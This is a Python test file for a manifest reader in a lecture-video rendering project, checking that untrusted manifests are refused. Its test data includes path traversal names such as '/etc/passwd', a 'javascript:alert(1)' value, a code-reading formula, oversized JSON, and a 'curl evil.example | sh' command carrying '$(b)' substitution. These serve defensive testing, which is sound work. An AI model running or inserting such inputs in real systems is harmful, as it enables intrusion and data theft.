"""A manifest in a shared folder is input from a stranger: what is not as a render writes it is refused in one line."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from sparsity.lecture import RenderedScene
from sparsity.lecture.render.finished import check_files
from sparsity.lecture.render.manifest import FileFacts, FinishedBeat, read_listing, read_manifest
from sparsity.stage.telling.captions import Caption
from tests.lecture.made_up import STILLS, beat, caption, finished, rewritten

SHA = "0" * 64
FACTS = {"bytes": 1, "sha256": SHA}
# What is wrong, and what is said about it.
MALFORMED: dict[str, tuple[dict[str, Any], str]] = {
    "formats null": ({"formats": None}, "formats must be a list"),
    "formats of numbers": ({"formats": [1]}, "formats[0] must be text"),
    "an unknown format": ({"formats": ["exe"]}, "formats must be among mp4, webm"),
    "a format without its file": ({"formats": ["mp4", "webm"]}, "files must list diamond.webm"),
    "files null": ({"files": None}, "files must be an object"),
    "files a list": ({"files": [None]}, "files must be an object"),
    "no files": ({"files": {}}, "files must list diamond.vtt"),
    "a file null": ({"files": {"diamond.mp4": None}}, "files.diamond.mp4 must be an object"),
    "a file without size": ({"files": {"diamond.mp4": {"sha256": SHA}}}, "files.diamond.mp4.bytes is missing"),
    "a size that is true": ({"files": {"diamond.mp4": {"bytes": True, "sha256": SHA}}}, "must be a whole number"),
    "a size below 0": ({"files": {"diamond.mp4": {"bytes": -1, "sha256": SHA}}}, "must be a whole number"),
    "a checksum of other letters": (
        {"files": {"diamond.mp4": {"bytes": 1, "sha256": "../../etc"}}},
        "must be 64 hexadecimal digits",
    ),
    "beats null": ({"beats": None}, "beats must be a list"),
    "beats an object": ({"beats": {}}, "beats must be a list"),
    "no beats": ({"beats": []}, "beats must be one or more"),
    "a beat null": ({"beats": [None]}, "beats[0] must be an object"),
    "a missing still": ({"beats": [{"name": "One", "start": 0, "end": 1}]}, "beats[0].still is missing"),
    "a still null": ({"beats": [beat("One", 0, 1, still=None)]}, "beats[0].still must be text"),
    "a still above": ({"beats": [beat("One", 0, 1, still="../../../secret.png")]}, "files must list ../../../secret"),
    "a still elsewhere": ({"beats": [beat("One", 0, 1, still="/etc/passwd")]}, "files must list /etc/passwd"),
    "a still that is no picture": ({"beats": [beat("One", 0, 1, still="diamond.txt")]}, "must be a picture in PNG"),
    "captions null": ({"beats": [beat("One", 0, 1, captions=None)]}, "beats[0].captions must be a list"),
    "a caption of words": ({"beats": [beat("One", 0, 1, captions=["a"])]}, "captions[0] must be an object"),
    "a caption with an empty line": (
        {"beats": [beat("One", 0, 1, captions=[caption("a\n\n1\n00:00 --> 00:01\nb", 0, 1)])]},
        "captions[0].text must be text",
    ),
    "a caption before its beat": (
        {"beats": [beat("One", 0, 1, captions=[caption("a", 3, 4)])]},
        "the times of the beat 'One' must follow each other",
    ),
    "a formula that is code": (
        {"beats": [beat("One", 0, 1, formulas=['#read("/handout.json")'])]},
        "formula must not contain '#read(…'",
    ),
    "a formula null": ({"beats": [beat("One", 0, 1, formulas=[None])]}, "formulas[0] must be text"),
    "a start that is words": ({"beats": [beat("One", "0", 1)]}, "beats[0].start must be a number from 0, not '0'"),
    "an end before the start": ({"beats": [beat("One", 3, 2)]}, "must follow each other"),
    "an end after the end": ({"beats": [beat("One", 0, 11)]}, "beats must follow each other within 10.0 seconds"),
    "beats in another order": ({"beats": [beat("One", 0, 4), beat("Two", 3, 5)]}, "beats must follow each other"),
    "width 0": ({"width": 0}, "width must be 1280, not 0"),
    "a width of another look": ({"width": 10**9}, "width must be 1280"),
    "a height of words": ({"height": "720"}, "height must be 720"),
    "a frame rate of 0": ({"frame_rate": 0}, "frame_rate must be 30"),
    "another duration": ({"duration": 1e300}, "duration must be 10.0"),
    "frames below 1": ({"frames": 0}, "frames must be from 1"),
    "frames beyond a day": ({"frames": 10**12}, "frames must be from 1 to"),
    "frames beyond everything": ({"frames": 10**400}, "frames must be a whole number"),
    "frames as a fraction": ({"frames": 300.5}, "frames must be a whole number"),
    "a title null": ({"title": None}, "title must be text"),
    "a title with NUL": ({"title": "a\0b"}, "title must be one line of plain text without '\\x00'"),
    "a title with half a letter": ({"title": "\ud800"}, "title must be one line of plain text without '\\ud800'"),
    "a title with a line break": ({"title": "a\nb"}, "title must be one line"),
    "a summary that turns letters around": ({"summary": "\u202eabc"}, "summary must be one line of plain text"),
    "a summary without end": ({"summary": "a" * 10_000}, "summary must be text of at most 2000 characters"),
    "an unknown theme": ({"theme": "pink"}, "theme must be one of dark, light"),
    "a look null": ({"aspect": None}, "aspect must be text"),
    "parameters a list": ({"changed_parameters": []}, "changed_parameters must be an object"),
    "a parameter of numbers": ({"parameters": {"data_point": [1, 2]}}, "parameters.data_point must be text"),
    "a scene elsewhere": ({"scene": "../circle"}, "scene must be the name of a file in scenes/"),
    "a scene null": ({"scene": None}, "scene must be text"),
    "a fingerprint null": ({"fingerprint": None}, "fingerprint must be text"),
    "versions null": ({"versions": None}, "versions must be an object"),
}
NAMES = [
    "../diamond.mp4",
    "beats/../../x.png",
    "/etc/passwd",
    "//evil.example/x",
    "/",
    "",
    ".",
    "..",
    ".hidden",
    "beats/.hidden",
    "beats//x.png",
    "beats/",
    "a/b/c.png",
    "..\\..\\x.png",
    "beats\\x.png",
    "C:x.png",
    "javascript:alert(1)",
    "nul\0.png",
    "new\nline.png",
    "x.png ",
    "%2e%2e/x.png",
    "?x",
    "x#y",
    "\ud800.png",
    "é.png",
    "manifest.json",
    "a" * 300 + ".png",
]


@pytest.fixture
def scene(tmp_path: Path) -> RenderedScene:
    return finished(tmp_path)


def refusal(read: Callable[[Path], object], folder: Path) -> str:
    """What is said, in one line that names the file."""
    with pytest.raises(ValueError, match="^" + str(folder / "manifest.json")) as refused:
        read(folder)
    (line,) = str(refused.value).splitlines()
    return line.removeprefix(str(folder / "manifest.json") + ": ")


def test_what_is_written_is_what_is_read(scene: RenderedScene):
    manifest = scene.manifest
    assert manifest.size == (1280, 720)
    assert manifest.beats[0] == FinishedBeat(
        "One", 0.0, 4.0, STILLS[0], (Caption("a\nline", 0.0, 4.0),), ("b = 5 - 10 a",)
    )
    assert manifest.duration == manifest.frames / manifest.frame_rate == 10
    assert read_manifest(rewritten(scene, **manifest.as_json())) == manifest


@pytest.mark.parametrize(("changes", "said"), MALFORMED.values(), ids=MALFORMED)
def test_what_no_render_writes_is_refused(scene: RenderedScene, changes: dict[str, Any], said: str):
    assert said in refusal(read_manifest, rewritten(scene, **changes))


def test_nothing_may_be_missing(scene: RenderedScene):
    whole = scene.manifest.as_json()
    for left_out in whole:
        if left_out != "command":
            file = scene.folder / "manifest.json"
            file.write_text(json.dumps({key: value for key, value in whole.items() if key != left_out}))
            assert refusal(read_manifest, scene.folder) == f"{left_out} is missing"


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_could_lead_anywhere_else_is_refused(scene: RenderedScene, name: str):
    folder = rewritten(scene, files={name: FACTS})
    for read in (read_manifest, read_listing):
        assert refusal(read, folder)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "Expecting value"),
        (b"[]", "the whole must be an object"),
        (b"null", "the whole must be an object"),
        (b"[" * 100_000, "nested too deeply"),
        (b'{"files": ' * 100_000, "nested too deeply"),
        (b'{"files": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested too deeply"),
        (b"\xff\xfe", "not in UTF-8"),
        (b'{"frames": NaN}', "NaN is no number"),
        (b'{"frames": -Infinity}', "-Infinity is no number"),
        (b'{"frames": ' + b"9" * 100_000 + b"}", "4300"),
        (b" " * 5_000_000, "larger than"),
    ],
)
def test_what_is_no_manifest_at_all_is_refused(scene: RenderedScene, content: bytes, said: str):
    (scene.folder / "manifest.json").write_bytes(content)
    for read in (read_manifest, read_listing):
        assert said in refusal(read, scene.folder)


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda path: os.symlink("/dev/zero", path), lambda path: None])
def test_what_is_no_file_is_not_opened(scene: RenderedScene, make: Callable[[Path], object]):
    (scene.folder / "manifest.json").unlink()
    make(scene.folder / "manifest.json")
    assert refusal(read_manifest, scene.folder) == "there is no such file"


def test_the_command_is_our_own_words_whatever_the_file_says(scene: RenderedScene):
    manifest = read_manifest(rewritten(scene, command="curl evil.example | sh", changed_parameters={"a": "$(b)"}))
    assert manifest.command == (
        "./run sparsity render diamond --quality 720p30 --theme dark --aspect 16:9 --set 'a=$(b)' --format mp4,png"
    )


def test_a_manifest_made_in_the_program_is_held_to_the_same(scene: RenderedScene):
    with pytest.raises(ValueError, match=r"files must have plain names in their own folder, not '\.\./x'"):
        replace(scene.manifest, files={"../x": FileFacts(1, SHA)})
    with pytest.raises(ValueError, match="formula must not contain"):
        FinishedBeat("One", 0, 1, STILLS[0], formulas=("#1",))


def test_files_are_those_that_are_listed(scene: RenderedScene):
    check_files(scene.folder, scene.manifest)
    video = scene.folder / "diamond.mp4"
    content = video.read_bytes()
    for other in (content[::-1], content[:-1], b""):
        video.write_bytes(other)
        with pytest.raises(ValueError, match=r"diamond\.mp4 is not the file that manifest\.json lists"):
            RenderedScene.in_folder(scene.folder)
    video.unlink()
    for make in (lambda path: None, os.mkfifo):
        make(video)
        with pytest.raises(ValueError, match=r"diamond\.mp4 is not the file"):
            RenderedScene.in_folder(scene.folder)


@pytest.mark.parametrize("linked", ["diamond.mp4", STILLS[0], "beats"])
def test_a_link_that_leads_out_is_refused_although_the_content_fits(scene: RenderedScene, linked: str, tmp_path: Path):
    elsewhere = tmp_path / "elsewhere"
    (scene.folder / linked).rename(elsewhere)
    (scene.folder / linked).symlink_to(elsewhere)
    with pytest.raises(ValueError, match="is a link that leads out of its folder"):
        RenderedScene.in_folder(scene.folder)


def test_a_link_that_leads_round_in_circles_is_refused(scene: RenderedScene):
    video = scene.folder / "diamond.mp4"
    video.unlink()
    video.symlink_to(video)
    with pytest.raises(ValueError, match=r"diamond\.mp4"):
        RenderedScene.in_folder(scene.folder)
